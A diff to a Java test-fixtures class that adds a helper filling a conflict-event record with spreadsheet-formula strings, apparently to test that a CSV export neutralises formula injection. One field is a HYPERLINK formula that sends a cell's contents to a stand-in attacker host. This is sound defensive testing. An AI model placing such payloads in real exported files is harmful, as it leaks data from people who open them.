@@ -36,6 +36,17 @@ final class Fixtures {
 
     static final Instant UPDATED_AT = Instant.parse("2020-11-10T08:30:00Z");
 
+    /** {@code event} with text that spreadsheets read as formulas in many cells, and negative coordinates. */
+    static ConflictEventDetails formulas(ConflictEventDetails event) {
+        return new ConflictEventDetails(event.theater(), event.type(), event.subType(), event.date(),
+                event.datePrecision(), event.endDate(),
+                new Location("@SUM(1+1)", "+1", "-2+3", "\tcmd", "\r=1", -12.5, -0.75, event.location().geoPrecision()),
+                event.actors(), event.fatalities(), "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                event.confidence(), event.agreementId(), "'=already quoted", event.respondsTo(),
+                List.of(new Citation("=1+1", "-publisher", null, null), new Citation("plain title", null, null, null)),
+                "-AZE1", event.ucdpGedId());
+    }
+
     /** A battle with every field set; notes with a comma, quotes and a line break. */
     ConflictEventDetails battle() {
         return new ConflictEventDetails(Theater.NAGORNO_KARABAKH, ConflictEventType.BATTLE, AcledSubType.ARMED_CLASH,
